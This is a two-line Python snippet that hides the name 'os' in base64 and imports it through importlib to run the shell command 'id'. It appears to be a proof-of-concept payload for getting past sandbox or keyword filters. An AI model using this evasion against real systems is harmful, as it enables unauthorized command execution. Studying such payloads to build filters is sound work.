import importlib, base64
importlib.import_module(base64.b64decode("b3M=").decode()).system("id")
